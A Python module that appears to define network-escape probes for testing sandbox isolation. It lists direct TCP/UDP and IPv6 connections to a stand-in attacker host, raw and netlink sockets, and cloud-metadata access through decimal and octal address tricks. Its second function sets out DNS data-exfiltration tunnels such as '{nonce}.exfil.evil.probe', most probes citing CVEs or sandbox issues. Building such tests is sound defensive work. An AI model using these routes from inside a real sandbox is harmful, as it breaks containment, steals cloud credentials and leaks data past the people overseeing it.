"""Past the proxy: straight to the network, and by the names that are asked for."""

from collections.abc import Iterator
from typing import Any

from runner.probes.probe import EVIL, EVIL6, METADATA, METADATA6, RESOLVER, Judge, Probe


def _canary(id: str, title: str, what: str, source: str = "", **arguments: Any) -> Probe:
    return Probe(id, title, what, arguments, judge=Judge.CANARY, source=source)


def direct() -> Iterator[Probe]:
    """Past the proxy, straight to the network."""
    yield _canary("N01", "TCP straight to a public address", "tcp", "nono#713", host=EVIL, port=80, nonce="{nonce}")
    yield _canary(
        "N02",
        "TCP with every proxy variable removed",
        "without_proxy",
        "nono#713",
        host=EVIL,
        port=443,
        nonce="{nonce}",
    )
    yield _canary("N03", "UDP straight to a public address", "udp", host=EVIL, port=5353, nonce="{nonce}")
    yield _canary(
        "N04", "QUIC: an Initial packet to UDP 443", "udp", host=EVIL, port=443, payload="c00000000108{nonce}"
    )
    yield _canary("N05", "TCP over IPv6", "tcp", "moby c761353", host=EVIL6, port=80, nonce="{nonce}")
    yield _canary("N06", "UDP over IPv6", "udp", host=EVIL6, port=53, nonce="{nonce}")
    yield _canary("N07", "IPv4 inside an IPv6 address", "tcp", host=f"::ffff:{EVIL}", port=80, nonce="{nonce}")
    yield _canary(
        "N08",
        "A service on the machine's own loopback",
        "tcp",
        "moby c761353",
        host="127.0.0.1",
        port=8080,
        nonce="{nonce}",
    )
    yield _canary("N09", "The same by 0.0.0.0", "tcp", host="0.0.0.0", port=8080, nonce="{nonce}")  # noqa: S104
    yield Probe("N10", "ICMP echo", "icmp", {"host": EVIL})
    yield Probe("N11", "A raw IP socket", "opens_socket", {"family": 2, "kind": 3, "protocol": 255})
    yield Probe("N12", "A packet socket", "opens_socket", {"family": 17, "kind": 3, "protocol": 0})
    yield Probe("N13", "A socket to the hypervisor (vsock)", "opens_socket", {"family": 40, "kind": 1})
    yield Probe("N14", "Netlink to the kernel's firewall", "opens_socket", {"family": 16, "kind": 3, "protocol": 12})
    yield Probe("N15", "A new address for the network (netlink)", "route")
    yield _canary("M01", "The metadata address", "tcp", "srt, Cursor sandbox", host=METADATA, port=80, nonce="{nonce}")
    yield _canary(
        "M02",
        "The metadata address as one decimal number",
        "named",
        "OWASP SSRF",
        name="2852039166",
        port=80,
        nonce="{nonce}",
    )
    yield _canary(
        "M03",
        "The metadata address in octal",
        "named",
        "OWASP SSRF",
        name="0251.0376.0251.0376",
        port=80,
        nonce="{nonce}",
    )
    yield _canary("M04", "The metadata address over IPv6", "tcp", "AWS IMDS", host=METADATA6, port=80, nonce="{nonce}")


def names() -> Iterator[Probe]:
    """Names as a way out."""
    tunnel = "{nonce}.exfil.evil.probe"
    yield _canary(
        "D01", "DNS to a resolver of one's own choice", "query", "CVE-2025-55284", server=RESOLVER, name=tunnel
    )
    yield _canary("D02", "The same over TCP", "query", "CVE-2025-55284", server=RESOLVER, name=tunnel, tcp_too=True)
    yield _canary("D03", "DNS over TLS", "tcp", "srt#88", host=RESOLVER, port=853, nonce="{nonce}")
    yield _canary("D04", "DNS over HTTPS, straight", "tcp", "srt#88", host=RESOLVER, port=443, nonce="{nonce}")
    local = {"server": "127.0.0.1", "name": tunnel}
    away = {"server": RESOLVER}
    for id, title, more in (
        ("D05", "Data in a name, by the resolver that is there", {}),
        ("D06", "Data in a TXT question", {"kind": 16}),
        ("D07", "Data in a name, over TCP", {"tcp_too": True}),
    ):
        yield Probe(id, title, "query", {**local, **more}, away, Judge.CANARY, True, "CVE-2024-29018")
    long = {"server": "127.0.0.1", "name": ".".join(["{nonce}"[:8] + "x" * 40] * 3) + ".allowed.probe"}
    yield Probe(
        "D08", "Data in long names under an allowed name", "query", long, away, Judge.CANARY, True, "CVE-2025-55284"
    )
